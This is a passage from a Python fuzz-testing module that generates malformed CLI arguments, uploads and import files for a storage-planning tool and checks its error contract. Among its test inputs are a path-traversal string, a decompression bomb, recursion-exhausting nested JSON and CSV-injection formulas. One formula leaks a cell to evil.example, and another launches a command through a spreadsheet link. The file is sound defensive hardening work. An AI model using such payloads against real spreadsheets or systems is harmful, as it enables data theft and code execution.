"""Generated inputs for every CLI command and every upload, and the checks every
outcome must pass. Shared by tests/test_fuzz_cli.py (hypothesis drives the
``random.Random`` it passes in, so failures shrink) and benchmarks/fuzz.py (a
seeded campaign of 10,000+ inputs).

The contract checked (docs/guide/cli.md, "Errors"; the README: "bad input exits with status 2 and one line"):
exit status 0 or 2, never an exception; on 2, exactly one stderr line
``error: <field>: <reason>`` and nothing on stdout; on 0, stdout a strict JSON
document (no NaN/Infinity) in which every null that replaced a non-finite
number was explained where it was made; and no run longer than a time limit.
"""

from __future__ import annotations

import base64
import contextlib
import copy
import functools
import hashlib
import io
import json
import random
import re
import shutil
import signal
import string
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
EX = ROOT / "examples"
CALIBRATION = ROOT / "planner" / "data" / "calibration.json"
# 'error: ' + a field (a quoted key may hold ': ') + ': ' + the reason, on one line
ERROR_LINE = re.compile(r"^error: \S[^\n]*?: \S[^\n]*$")
COMMANDS = (
    "evaluate",
    "catalog",
    "schema",
    "calibrate",
    "validate",
    "sla",
    "price",
    "size",
    "import",
    "bom",
    "compare",
)
TIME_LIMIT_S = 60


def _load(name: str):
    return json.loads((EX / name).read_text())


DESIGNS = [_load(n) for n in ("reference.json", "edge-2node.json", "sas-4node.json", "nvme-pmem-12node.json")]
OTHER_ARCHITECTURES = [
    _load(n)
    for n in (
        "san-raid5.json",
        "single-server-sata-raid10.json",
        "sofs-2node-sas-tiered.json",
        "split-provisioned.json",
        "single-server-pcie-flash.json",
    )
]
DATABASES_IO = [_load("db-oltp-hammerdb.json")]
CALIBRATION_DOC = json.loads((ROOT / "planner" / "data" / "calibration.json").read_text())
DBS = [_load("db-erp.json")]
BACKGROUNDS = [
    _load("background-25vms.json"),
    {"name": "open", "block_size_kib": 64, "read_fraction": 0.5, "iops": 200000},
]
TIERS = [_load("tiers.json")]
COSTS = [{}, {"amortisation_months": 60, "target_margin": 0.5, "part_prices_usd": {"intel-p4510-1tb": 500}}]
DEMANDS = [
    {"total_iops": 100000, "capacity_tb": 5, "max_nodes": 4, "n_plus_one": False},
    {"tier_counts": {"Standard": 2, "Premium": 1}, "max_nodes": 4},
    _load("demand-200dbs.json"),
    _load("demand-hammerdb.json"),
]
PROFILES = ["oltp-8k", "Sql", "Peak4kRead", "dss-512k", "log-writes"]
IMPORT_FILES = [
    EX / "import-measurements.csv",
    EX / "import-template.csv",
    ROOT / "tests" / "fixtures" / "import" / "diskspd-1target-latency.xml",
]
WEIRD = [
    "",
    " ",
    "\n",
    "error: forged: line",
    "a\nerror: forged: second line",
    "\x00",
    "\u2028",
    "é" * 3,
    "![b](http://127.0.0.1:9/x.png)",
    "$x$",
    "../../etc/passwd",
    "/dev/zero",
    "x" * 5000,
    "NaN",
    "-1",
    "1e999",
    "0x10",
    "９",
    "null",
    "{}",
    "[]",
    "--help",
]


# ----------------------------------------------------------------- values
def json_value(rnd: random.Random, depth: int = 0):
    """A random JSON value, biased towards the edges (bounds, huge, empty, odd text)."""
    k = rnd.randrange(10 if depth < 3 else 7)
    if k == 0:
        return None
    if k == 1:
        return rnd.choice([True, False])
    if k == 2:
        return rnd.choice([0, -1, 1, 2, 3, 4, 16, 17, 200, 10**6, -(10**9), 10**18, 2**63, 10**300])
    if k == 3:
        return rnd.choice(
            [0.0, -0.0, 0.5, 1e-320, 1e-9, 0.999, 1.0, 1.5, 32.0, 1e6, 1e308, -1e308, rnd.uniform(-1e3, 1e3)]
        )
    if k in (4, 5):
        return rnd.choice([*WEIRD, random_text(rnd)])
    if k == 6:
        return rnd.choice(
            [
                "mirror-3way",
                "parity-dual",
                "rdma",
                "tcp",
                "read-write",
                "intel-p4510-1tb",
                "mean",
                "p99",
                "vm",
                "host",
                "Standard",
                "oltp-8k",
            ]
        )
    if k in (7, 8):
        return [json_value(rnd, depth + 1) for _ in range(rnd.randrange(4))]
    return {random_key(rnd): json_value(rnd, depth + 1) for _ in range(rnd.randrange(4))}


def random_text(rnd: random.Random, n: int | None = None) -> str:
    alphabet = string.printable + "éü€\u2028\u0085\x1b\x7f"
    return "".join(rnd.choice(alphabet) for _ in range(n if n is not None else rnd.randrange(12)))


def random_key(rnd: random.Random) -> str:
    return rnd.choice(
        ["name", "nodes", "count", "model", "id", "x", "records", "device_class", "tiers", random_text(rnd, 6)]
    )


def _paths(doc, prefix=()):
    """Every (path) to a value inside a JSON document."""
    out = []
    stack = [(doc, prefix)]
    while stack:
        obj, p = stack.pop()
        if isinstance(obj, dict):
            for k, v in obj.items():
                out.append((*p, k))
                stack.append((v, (*p, k)))
        elif isinstance(obj, list):
            for i, v in enumerate(obj):
                out.append((*p, i))
                stack.append((v, (*p, i)))
    return out


def _boundary(rnd: random.Random, v):
    """A value near, at or past the edges of what the field holds now."""
    if isinstance(v, bool):
        return rnd.choice([not v, None, 0, "true"])
    if isinstance(v, int):
        return rnd.choice([0, -1, v - 1, v + 1, v * 1000, -v, 10**6, 17, 201, 4097, str(v)])
    if isinstance(v, float):
        return rnd.choice([0.0, -v, v * 1e6, v / 1e6, 1e-12, 1.0000001, 0.99999, 10.0, 1e9, str(v)])
    if isinstance(v, str):
        return rnd.choice([*WEIRD, v.upper(), v + " ", v[:1]])
    return json_value(rnd)


def mutate(rnd: random.Random, doc):
    """0-3 edits of a valid document: a value at a bound or replaced, a key dropped or added."""
    doc = copy.deepcopy(doc)
    for _ in range(rnd.choice([0, 1, 1, 2, 3])):
        paths = _paths(doc)
        op = rnd.randrange(5)
        if not paths or op == 4:
            if isinstance(doc, dict):
                doc[random_key(rnd)] = json_value(rnd)
            continue
        path = rnd.choice(paths)
        parent = doc
        for p in path[:-1]:
            parent = parent[p]
        if op == 0:
            parent[path[-1]] = _boundary(rnd, parent[path[-1]])
        elif op == 1:
            parent[path[-1]] = json_value(rnd)
        elif op == 2 and isinstance(parent, dict):
            del parent[path[-1]]
        elif op == 3 and isinstance(parent, list):
            parent.append(copy.deepcopy(parent[path[-1]]))
    return doc


def encode(rnd: random.Random, doc) -> bytes:
    """JSON text of ``doc``, sometimes broken the ways files arrive broken."""
    text = json.dumps(doc, ensure_ascii=rnd.random() < 0.5)
    k = rnd.randrange(14)
    if k == 0:  # NaN, Infinity or an overflowing/huge number where a number was
        text = re.sub(
            r"(?<=: )-?\d+(\.\d+)?",
            lambda m: rnd.choice(["NaN", "Infinity", "-Infinity", "1e999", "9" * 5000]),
            text,
            count=1,
        )
    elif k == 1:
        text = text[: rnd.randrange(max(len(text), 1))]  # truncated
    elif k == 2:
        n = rnd.choice([65, 500, 5000])
        text = "[" * n + text + "]" * n if rnd.random() < 0.5 else '{"a": ' * n + text + "}" * n
    elif k == 3:
        return bytes(rnd.randrange(256) for _ in range(rnd.randrange(64)))
    elif k == 4:
        return b"\xef\xbb\xbf" + text.encode()
    elif k == 5:
        return text.encode("utf-16")
    elif k == 6:
        return text.encode()[:-1] + b"\xff\xfe"
    elif k == 7:
        return rnd.choice([b"", b"   ", b"null", b"[]", b"42", b'"design"', b"{", b"}"])
    elif k == 8:
        text = text.replace(":", ": " + json.dumps(json_value(rnd)) + ', "z":', 1)
    return text.encode()


# ------------------------------------------------------------ argv per command
class Files:
    """Writes the generated files of one case into a scratch folder."""

    def __init__(self, folder: Path):
        self.folder = folder
        self.n = 0

    def write(self, data: bytes, suffix: str = ".json") -> str:
        self.n += 1
        p = self.folder / f"f{self.n}{suffix}"
        p.write_bytes(data)
        return str(p)

    def doc(self, rnd: random.Random, pool: list, kind: str | None = None) -> str:
        """A document from ``pool``: as shipped, valid with figures at their bounds
        (``kind`` names its model), or mutated and maybe broken."""
        doc = rnd.choice(pool)
        r = rnd.random()
        if r < 0.3:
            return self.write(json.dumps(doc).encode())
        if r < 0.55 and kind:
            return self.write(json.dumps(valid_extreme(rnd, doc, kind)).encode())
        return self.write(encode(rnd, mutate(rnd, doc)))


def _opt(rnd: random.Random, p: float = 0.3) -> bool:
    return rnd.random() < p


def _number_text(rnd: random.Random, valid: tuple = ("2", "3", "4", "5", "8", "0.5", "0.8", "1.0")) -> str:
    """Half the time a plausible value, else an edge or garbage."""
    if rnd.random() < 0.5:
        return rnd.choice(valid)
    return rnd.choice(
        [
            "0",
            "1",
            "16",
            "17",
            "-3",
            "1000",
            "2.5",
            "nan",
            "inf",
            "-inf",
            "1e999",
            "0.05",
            "32",
            "33",
            "",
            "x",
            "9" * 40,
            " 4",
        ]
    )


def design_args(rnd: random.Random, files: Files) -> list[str]:
    argv = [files.doc(rnd, DESIGNS, "design") if rnd.random() < 0.9 else rnd.choice([*WEIRD, str(files.folder)])]
    for flag in ("--nodes", "--vcpu-oversubscription", "--cpu-utilization-cap", "--volume-servers"):
        if _opt(rnd, 0.12):
            argv += [flag, _number_text(rnd)]
    if _opt(rnd, 0.1):
        argv += ["--transport", rnd.choice(["rdma", "tcp", "RDMA", "x"])]
    if _opt(rnd, 0.1):
        argv += [
            "--resiliency",
            rnd.choice(["mirror-2way", "mirror-3way", "parity-dual", "nested-mirror-2way", "bogus"]),
        ]
    if _opt(rnd, 0.1):
        argv += ["--cache-mode", rnd.choice(["read-write", "write-only", "read-only", "none"])]
    return argv


def workload_ref(rnd: random.Random, files: Files) -> str:
    k = rnd.randrange(4)
    if k == 0:
        return rnd.choice(PROFILES + WEIRD)
    if k == 1:
        return rnd.choice(PROFILES)
    return files.doc(rnd, BACKGROUNDS, "workload")


def catalog_folder(rnd: random.Random, files: Files) -> str:
    """A user catalog folder: one mutated class file (or something that is not one)."""
    folder = files.folder / f"cat{files.n}"
    files.n += 1
    folder.mkdir()
    src = rnd.choice(sorted((ROOT / "hardware_catalog").glob("*.json")))
    doc = json.loads(src.read_text())
    doc["records"] = doc["records"][:2]
    (folder / "mine.json").write_bytes(encode(rnd, mutate(rnd, doc)))
    if _opt(rnd, 0.05):
        (folder / "sub.json").mkdir()
    return str(folder)


def calibration_args(rnd: random.Random, files: Files) -> list[str]:
    """Now and then a calibration file (a refit's), mutated like any other."""
    if not _opt(rnd, 0.05):
        return []
    cal = (
        CALIBRATION_DOC
        if rnd.random() < 0.3
        else mutate(rnd, {"version": CALIBRATION_DOC["version"], "params": CALIBRATION_DOC["params"]})
    )
    return ["--calibration", files.write(encode(rnd, cal))]


def argv_for(rnd: random.Random, command: str, files: Files) -> list[str]:
    """A generated command line for ``command`` (files written under ``files``)."""
    if command == "evaluate":
        argv = ["evaluate", *design_args(rnd, files)]
        if _opt(rnd, 0.7):
            argv += ["--workload", workload_ref(rnd, files)]
        if _opt(rnd, 0.2):
            argv.append("--no-degraded")
        if _opt(rnd, 0.1):
            argv += ["--catalog", catalog_folder(rnd, files)]
        argv += calibration_args(rnd, files)
    elif command == "catalog":
        argv = ["catalog"]
        if _opt(rnd, 0.6):
            argv.append(rnd.choice(["capacity_drive", "cache_device", "cpu", "nic", "chassis", *WEIRD[:6]]))
        if _opt(rnd, 0.6):
            argv += ["--catalog", catalog_folder(rnd, files)]
    elif command == "schema":
        argv = ["schema", rnd.choice(["design", "workload", "db", "demand", "tiers", *WEIRD[:8]])]
    elif command == "calibrate":
        # always --dry-run (never writes planner/data/calibration.json); a valid run takes seconds,
        # so most cases are argument errors
        argv = [
            "calibrate",
            "--dry-run",
            "--no-cv",
            "--bootstrap",
            rnd.choice(["-1", "201", "x", "1e3", "", "9" * 30, "0"] if rnd.random() < 0.97 else ["0"]),
        ]
        if argv[-1] == "0" and rnd.random() < 0.9:
            argv[-1] = "-2"
    elif command == "validate":
        argv = ["validate"] + (["--rows"] if _opt(rnd, 0.5) else [])
        if _opt(rnd, 0.6):
            argv += ["--format", rnd.choice(["json", "csv", "xml", ""])]
    elif command == "sla":
        argv = ["sla", *design_args(rnd, files)]
        if _opt(rnd, 0.3):  # a database as a DBA describes it, with the VM's sizing as flags
            argv += ["--database", files.doc(rnd, DATABASES_IO)]
            for flag in ("--vcpus", "--threads", "--outstanding-per-thread", "--latency-target-ms"):
                if _opt(rnd, 0.3):
                    argv += [flag, _number_text(rnd)]
            if _opt(rnd, 0.2):
                argv += ["--statistic", rnd.choice(["mean", "p90", "p99", "p50", ""])]
            if _opt(rnd, 0.2):
                argv.append("--mean")
        else:
            argv += ["--db", files.doc(rnd, DBS, "db")]
            if _opt(rnd, 0.05):  # a flag that only applies with --database
                argv += ["--vcpus", "8"]
        if _opt(rnd, 0.5):
            argv += ["--background", workload_ref(rnd, files)]
        if _opt(rnd, 0.3):
            argv.append("--n-plus-one")
        argv += calibration_args(rnd, files)
    elif command == "price":
        argv = ["price", *design_args(rnd, files)]
        if _opt(rnd, 0.6):
            argv += ["--tiers", files.doc(rnd, TIERS, "tiers")]
        if _opt(rnd, 0.6):
            argv += ["--costs", files.doc(rnd, COSTS, "costs")]
        if _opt(rnd, 0.3):
            argv.append("--n-plus-one")
        argv += calibration_args(rnd, files)
    elif command == "size":
        argv = ["size", files.doc(rnd, DEMANDS, "demand")]
        if _opt(rnd, 0.3):
            argv += ["--top", _number_text(rnd)]
        if _opt(rnd, 0.1):
            argv.append("--timings")
        argv += calibration_args(rnd, files)
    elif command == "import":
        src = rnd.choice(IMPORT_FILES)
        data = src.read_bytes()
        if rnd.random() < 0.5:  # cut, spliced or replaced
            k = rnd.randrange(3)
            data = (
                data[: rnd.randrange(len(data))]
                if k == 0
                else data.replace(b"\n", ("\n" + random_text(rnd) + "\n").encode(), 1)
                if k == 1
                else bytes(rnd.randrange(256) for _ in range(rnd.randrange(200)))
            )
        argv = ["import", files.write(data, src.suffix), "--design", files.doc(rnd, DESIGNS[:1])]
        for flag in ("--vms-per-node", "--processes-per-node", "--vcpus-per-vm", "--imported-share"):
            if _opt(rnd, 0.1):
                argv += [flag, _number_text(rnd)]
        if _opt(rnd, 0.1):
            argv += ["--issuer", rnd.choice(["vm", "host", "x"])]
    elif command == "bom":
        argv = ["bom", *design_args(rnd, files)]
        if _opt(rnd, 0.4):
            argv += ["--costs", files.doc(rnd, COSTS, "costs")]
        if _opt(rnd, 0.3):
            argv += ["--switch", rnd.choice(["nonexistent", "x", *WEIRD[:4]])]
        if _opt(rnd, 0.2):
            argv += ["--switches", _number_text(rnd, ("1", "2", "4"))]
    elif command == "compare":
        argv = ["compare"] + [files.doc(rnd, DESIGNS + OTHER_ARCHITECTURES) for _ in range(rnd.randint(1, 3))]
        if _opt(rnd, 0.6):
            argv += ["--workload", workload_ref(rnd, files)]
        elif _opt(rnd, 0.5):
            argv += ["--database", files.doc(rnd, DATABASES_IO)]
            if _opt(rnd, 0.3):
                argv.append("--mean")
        if _opt(rnd, 0.2):
            argv.append("--full")
    else:  # pragma: no cover
        raise ValueError(command)
    if _opt(rnd, 0.02):  # an unknown flag or a stray argument
        argv.insert(rnd.randrange(1, len(argv) + 1), rnd.choice(["--frobnicate", "extra", "-x"]))
    return argv


# --------------------------------------------------------------- the checks
class Hang(Exception):
    pass


def _alarm(signum, frame):
    raise Hang()


def run_cli(argv: list[str], time_limit: int = TIME_LIMIT_S) -> tuple[int | None, str, str, BaseException | None]:
    """planner.cli.main in-process with captured streams (and an alarm for hangs)."""
    from planner.cli import main

    out, err = io.StringIO(), io.StringIO()
    old = signal.signal(signal.SIGALRM, _alarm)
    signal.alarm(time_limit)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(argv)
        exc = None
    except BaseException as e:
        code, exc = None, e
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
    return code, out.getvalue(), err.getvalue(), exc


def _refuse_constant(name):
    raise ValueError(f"{name} in the output")


def outcome(argv: list[str], code, out: str, err: str, exc: BaseException | None) -> str:
    """'ok' or 'error' when the contract holds, else the name of the breach."""
    try:
        from planner.core.jsonio import UNEXPLAINED
    except ImportError:  # a planner from before strict output (the campaign's 'before' run)
        UNEXPLAINED = "\x00"

    if isinstance(exc, Hang):
        return "hang"
    asked_help = any(a in ("-h", "--help") for a in argv)
    if asked_help and (code == 0 or (isinstance(exc, SystemExit) and exc.code in (0, None))):
        return "ok"  # the help text, asked for
    if exc is not None:
        return f"exception {type(exc).__name__}"
    if code == 2:
        lines = err.split("\n")
        if out:
            return "error with stdout"
        if len(lines) != 2 or lines[1] != "" or not ERROR_LINE.match(lines[0]):
            return "error not one 'error: field: reason' line"
        return "error"
    if code != 0:
        return f"exit {code}"
    if err:
        return "stderr on success"
    if "--format" in argv[:-1] and argv[argv.index("--format") + 1] == "csv":
        if out.count("\n") <= 1:
            return "empty csv"
        return "formula cell in a csv" if formula_cells(out) else "ok"
    try:
        doc = json.loads(out, parse_constant=_refuse_constant)
    except ValueError as e:
        return f"not strict JSON ({str(e)[:40]})"
    if UNEXPLAINED in out:
        return "unexplained null"
    if argv[:1] and argv[0] in NULLS_EXPLAINED and unexplained_nulls(doc):
        return "null without a note"
    if argv[:1] == ["import"] and any(bad_measured(r) for r in doc.get("rows", [])):
        return "imported point breaks the measured-value rule"
    return "ok"


#: commands whose every null must carry its reason (README: strict output)
NULLS_EXPLAINED = ("evaluate", "sla", "price", "size", "compare")


def formula_cells(text: str) -> list[str]:
    """Cells of CSV text a spreadsheet would run: text starting with = + - @ tab or CR
    (a number such as -1.5 is a value, not a formula)."""
    import csv as _csv

    bad = []
    for row in _csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def bad_measured(row: dict) -> bool:
    """An imported point that breaks the one rule (iops > 0, other metrics >= 0, CPU <= 1)."""
    m = row.get("measured") or {}
    iops = m.get("iops")
    if iops is None or not iops > 0:
        return True
    if any(v is not None and v < 0 for v in m.values()):
        return True
    return (m.get("host_cpu_utilization") or 0) > 1


def calibration_digest() -> str:
    return hashlib.sha256(CALIBRATION.read_bytes()).hexdigest() if CALIBRATION.exists() else ""


# ------------------------------------------------------------------ uploads
UPLOADS = ("design", "catalog", "link")


def upload_case(rnd: random.Random, kind: str):
    """(what to call, its argument) for one generated upload."""
    if kind == "design":
        if rnd.random() < 0.3:
            return json.dumps(valid_extreme(rnd, rnd.choice(DESIGNS), "design")).encode()
        return encode(rnd, mutate(rnd, rnd.choice(DESIGNS)))
    if kind == "catalog":
        src = rnd.choice(sorted((ROOT / "hardware_catalog").glob("*.json")))
        doc = json.loads(src.read_text())
        doc["records"] = doc["records"][:3]
        return encode(rnd, mutate(rnd, doc))
    # a share link token
    k = rnd.randrange(6)
    if k == 0:
        return random_text(rnd, rnd.randrange(60))
    if k == 1:
        return base64.urlsafe_b64encode(bytes(rnd.randrange(256) for _ in range(rnd.randrange(80)))).decode()
    if k == 2:
        return _bomb()
    design = rnd.choice(DESIGNS)
    doc = {"d": mutate(rnd, design) if rnd.random() < 0.5 else design, "w": rnd.choice([*PROFILES, "custom", "nope"])}
    if k == 3:
        doc["wj"] = mutate(rnd, rnd.choice(BACKGROUNDS))
    if rnd.random() < 0.3:  # the tier set a link may carry
        doc["t"] = mutate(rnd, rnd.choice(TIERS)) if rnd.random() < 0.7 else json_value(rnd)
    raw = encode(rnd, mutate(rnd, doc) if k == 4 else doc)
    token = base64.urlsafe_b64encode(zlib.compress(raw, 9)).decode().rstrip("=")
    return token[: rnd.randrange(len(token))] if k == 5 and token else token


@functools.lru_cache(maxsize=1)
def _bomb() -> str:
    """A decompression bomb: 50 MB of spaces in a 50 kB token."""
    return base64.urlsafe_b64encode(zlib.compress(b" " * 50_000_000, 9)).decode().rstrip("=")


def run_upload(kind: str, data) -> tuple[str, BaseException | None]:
    """What the app does with an upload: 'ok', 'error' (a PlannerError to show) or a breach."""
    import warnings

    import numpy as np

    from planner.core.errors import PlannerError

    try:
        with np.errstate(all="ignore"), warnings.catch_warnings():
            warnings.simplefilter("ignore", RuntimeWarning)  # the server log's business, not the page's
            return _upload(kind, data)
    except PlannerError as exc:
        if "\n" in str(exc) or not str(exc).strip():
            return "error not one line", exc
        return "error", None
    except Exception as exc:
        return f"exception {type(exc).__name__}", exc


def _upload(kind: str, data) -> tuple[str, None]:
    if kind == "design":
        from hciplan_ui.state import validate_design

        _check_report(validate_design(data))
    elif kind == "catalog":
        from planner.models.catalog import parse_catalog_file

        parse_catalog_file(data, "upload.json")
    else:
        from hciplan_ui.state import decode_scenario

        dj, _, wj = decode_scenario(data)
        _check_report(dj, wj)
    return "ok", None


def _check_report(design_json: str, workload_json: str | None = None) -> None:
    """A design the app accepted must give a report that serialises strictly."""
    from planner.models.design import parse_design
    from planner.models.workload import parse_workload, profiles
    from planner.results.report import evaluate_report

    try:
        from planner.core.jsonio import UNEXPLAINED, dumps
    except ImportError:  # before strict output: any NaN/Infinity fails json.dumps(allow_nan=False)
        UNEXPLAINED, dumps = "\x00", lambda o: json.dumps(o, allow_nan=False, default=str)
    w = parse_workload(workload_json) if workload_json else profiles()["oltp-8k"]
    text = dumps(evaluate_report(parse_design(design_json), w))
    if UNEXPLAINED in text:
        raise AssertionError(f"unexplained null in the report of {design_json[:80]}")


def run_case(rnd: random.Random, kind: str, scratch: Path, time_limit: int = TIME_LIMIT_S) -> tuple[str, str]:
    """One generated input of ``kind`` (a command, or 'upload:<what>'): (outcome, how to reproduce)."""
    if kind.startswith("upload:"):
        what = kind.split(":")[1]
        data = upload_case(rnd, what)
        result, exc = run_upload(what, data)
        return result, f"{what} upload {data[:160]!r} -> {exc!r}"[:400]
    case = scratch / f"case{rnd.randrange(10**9)}"
    case.mkdir(parents=True)
    try:
        if kind.startswith("hostile:"):
            argv = hostile_argv(rnd, kind.split(":", 1)[1], Files(case))
        else:
            argv = argv_for(rnd, kind, Files(case))
        code, out, err, exc = run_cli(argv, time_limit)
        return outcome(argv, code, out, err, exc), f"{' '.join(argv)[:240]} -> {(err or repr(exc))[:200]}"
    finally:
        shutil.rmtree(case, ignore_errors=True)


# ------------------------------------------------- extreme but valid inputs
def numeric_bounds(model, prefix: tuple = ()) -> dict:
    """{path of field names: (low, low_exclusive, high, is_int)} for every numeric field of a
    pydantic model, nested models included (a Union with a model, e.g. a part id or an inline
    spec, is walked into the model)."""
    import typing

    from pydantic import BaseModel

    from hciplan_ui.inputs import model_bounds  # the bounds the app's own number inputs use

    out = {}
    for name, f in model.model_fields.items():
        ann = f.annotation
        kinds = [a for a in (typing.get_args(ann) or (ann,)) if a is not type(None)]
        sub = [k for k in kinds if isinstance(k, type) and issubclass(k, BaseModel)]
        for k in kinds:  # list[Model]
            sub += [a for a in typing.get_args(k) if isinstance(a, type) and issubclass(a, BaseModel)]
        for m in sub:
            out.update(numeric_bounds(m, (*prefix, name)))
        if any(k in (int, float) for k in kinds):
            lo, hi, excl = model_bounds(model, name)
            out[(*prefix, name)] = (lo, excl, hi, int in kinds and float not in kinds)
    return out


def _extreme(rnd: random.Random, lo, excl: bool, hi, is_int: bool):
    if is_int:
        return rnd.choice([v for v in (lo + excl if lo is not None else None, hi) if v is not None] or [1])
    cands = []
    if lo is not None:
        cands += [lo + (max(abs(lo), 1.0) * 1e-12 if excl else 0.0)]
        if excl and lo == 0:
            cands += [5e-324, 1e-300]
    if hi is not None:
        cands += [hi, hi * (1 - 1e-12)]
    return rnd.choice(cands or [1e300])


def inline_parts(rnd: random.Random, design: dict) -> dict:
    """The design with some parts given inline (the catalog record's fields), so their
    figures can be pushed to their bounds too."""
    from planner.models.catalog import load_catalog

    cat = load_catalog()
    d = copy.deepcopy(design)
    node = d["node"]
    for key, cls, sub in (
        ("capacity_drives", "capacity_drive", "model"),
        ("cache_devices", "cache_device", "model"),
        ("cpu", "cpu", "model"),
        ("nics", "nic", "model"),
    ):
        ref = (node.get(key) or {}).get(sub)
        if isinstance(ref, str) and ref in cat.of(cls) and rnd.random() < 0.6:
            rec = cat.of(cls)[ref].model_dump(mode="json")
            rec.pop("device_class", None)
            node[key][sub] = rec
    return d


def extremes(rnd: random.Random, doc: dict, model) -> dict:
    """``doc`` with 1-4 numeric fields set to the edge of their valid range (a bound, or
    the smallest positive float above an exclusive 0): valid input the model must survive."""
    bounds = numeric_bounds(model)
    doc = copy.deepcopy(doc)
    leaves = []
    for path in _paths(doc):
        names = tuple(p for p in path if isinstance(p, str))
        if names in bounds:
            leaves.append((path, bounds[names]))
    for path, b in rnd.sample(leaves, min(len(leaves), rnd.randint(1, 4))):
        parent = doc
        for p in path[:-1]:
            parent = parent[p] if isinstance(parent, (dict, list)) else None
        value = parent[path[-1]] if isinstance(parent, (dict, list)) else None
        if isinstance(value, (int, float)) and not isinstance(value, bool):  # a number, not a list of them
            parent[path[-1]] = _extreme(rnd, *b)
    return doc


def valid_extreme(rnd: random.Random, doc: dict, kind: str) -> dict:
    """A document of ``kind`` with figures at the edges of their valid ranges."""
    from planner.commercial.pricing import CostAssumptions
    from planner.models.database import Database
    from planner.models.demand import Demand
    from planner.models.design import Design
    from planner.models.tiers import TierSet
    from planner.models.workload import Workload

    model = {
        "design": Design,
        "workload": Workload,
        "db": Database,
        "tiers": TierSet,
        "costs": CostAssumptions,
        "demand": Demand,
    }[kind]
    if kind == "design":
        doc = inline_parts(rnd, doc)
    return extremes(rnd, doc, model)


# -------------------------------------------- hostile files (hardening round two)
# The generators that found issue 23's reproducers, shared by tests/test_hardening_two.py
# (one minimal case each) and benchmarks/fuzz.py (random ones, counted per kind).
CSV_HEADER = "label,outstanding_per_thread,block_size_kib,read_fraction,iops"
#: formula payloads a spreadsheet would run (OWASP CSV injection), as labels or tier names
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1",
    "\r=1",
]
DIR = ROOT / "tests" / "fixtures" / "import"


def deep_json(depth: int, inside: str = "[]", opener: str = "[") -> str:
    """``depth`` levels of ``opener`` around ``inside`` (100,000 levels make json.loads recurse out)."""
    closer = {"[": "]", "{": "}"}[opener]
    if opener == "{":
        return '{"a": ' * depth + inside + "}" * depth
    return opener * depth + inside + closer * depth


def deep_fio(depth: int) -> bytes:
    """fio-looking JSON with a value nested ``depth`` levels deep."""
    return ('{"fio version": "fio-3.33", "jobs": [], "x": ' + deep_json(depth) + "}").encode()


def fio_jobs(n: int, bs: int = 4096, ios: int = 100, name: str = "j") -> dict:
    """A fio 3.x JSON document: ``n`` jobs in one reporting group, each ``ios`` reads of
    ``bs`` bytes in one second at 0.5 ms (16,000 jobs are about 7 MB)."""
    sec = lambda k: {
        "io_bytes": k * bs,
        "io_kbytes": k * bs // 1024,
        "bw_bytes": k * bs,
        "bw": k * bs // 1024,
        "iops": float(k),
        "runtime": 1000,
        "total_ios": k,
        "clat_ns": {"mean": 450000.0, "N": k, "percentile": {"99.000000": 1500000}},
        "lat_ns": {"mean": 500000.0, "N": k},
    }
    jobs = [
        {
            "jobname": f"{name}{i}",
            "groupid": 0,
            "error": 0,
            "job options": {"rw": "randread", "iodepth": "1", "ioengine": "libaio", "bs": str(bs)},
            "read": sec(ios),
            "write": sec(0),
            "job_runtime": 1000,
        }
        for i in range(n)
    ]
    return {"fio version": "fio-3.33", "jobs": jobs}


def csv_template(rows: list[tuple]) -> bytes:
    """The CSV template with the required columns only, one row per tuple
    (label, outstanding, block KiB, read fraction, IOPS); labels quoted as csv does."""
    import csv as _csv

    buf = io.StringIO()
    w = _csv.writer(buf, lineterminator="\n")
    w.writerow(CSV_HEADER.split(","))
    w.writerows(rows)
    return buf.getvalue().encode()


def oversize_field_csv(chars: int = 131_073) -> bytes:
    """A template row whose label is longer than the csv module's field limit (131,072)."""
    return f"{CSV_HEADER}\n{'x' * chars},4,8,1,1000\n".encode()


def many_rows_csv(megabytes: float) -> bytes:
    """A valid template of about ``megabytes`` MB (19 MB is about 1.3 million rows, far past the
    20,000-point limit)."""
    row = b"run,4,8,1,1000\n"
    return (CSV_HEADER + "\n").encode() + row * int(megabytes * 1e6 / len(row))


def vmfleet_with(column: str, value: str) -> bytes:
    """The shipped two-node VMFleet result file with ``column`` of its first row set to ``value``."""
    lines = (DIR / "vmfleet-AX6515-All-Flash-4xSSD-32VMs-2Node.tsv").read_text().splitlines()
    head = [c.strip('"') for c in lines[0].split("\t")]
    cells = lines[1].split("\t")
    i = head.index(column)
    cells[i] = f'"{value}"' if cells[i].startswith('"') else value
    lines[1] = "\t".join(cells)
    return ("\n".join(lines) + "\n").encode()


def diskspd_with(old: str, new: str, name: str = "diskspd-fixed-threads-throttled.xml") -> bytes:
    text = (DIR / name).read_text()
    assert old in text, old
    return text.replace(old, new).encode()


def symlink_loop(folder: Path, name: str = "loop") -> Path:
    """``ln -s loop loop`` in ``folder``."""
    p = folder / name
    if not p.is_symlink():
        p.symlink_to(name)
    return p


def out_of_bound_calibration(rnd: random.Random | None = None, param: str | None = None, value=None) -> dict:
    """The shipped calibration with one parameter of one bootstrap set outside its fit bounds
    (default: ``storage_cpu_wait`` -0.4 in the first set)."""
    from planner.models.params import PARAM_BOUNDS

    doc = copy.deepcopy(CALIBRATION_DOC)
    if rnd is None:
        doc["bootstrap"][0][param or "storage_cpu_wait"] = -0.4 if value is None else value
        return doc
    name = param or rnd.choice(sorted(PARAM_BOUNDS))
    lo, hi = PARAM_BOUNDS[name][1:]
    bad = rnd.choice([lo - abs(lo) * 0.5 - 0.1, hi + abs(hi) * 0.5 + 0.1, -1e300, 1e300, "x", None, True])
    doc["bootstrap"][rnd.randrange(len(doc["bootstrap"]))][name] = bad
    return doc


def unexplained_nulls(doc) -> list[str]:
    """Paths of nulls that no note explains. A null at key ``k`` is explained by a
    sibling ``<p>_note`` where ``k`` is ``p`` or starts with ``p + '_'``
    (``endurance_years`` by ``endurance_note``, a band's ``write_latency_ms_low`` by
    ``write_latency_ms_note``), as the README promises; a null list item never is."""
    out = []
    stack = [(doc, "")]
    while stack:
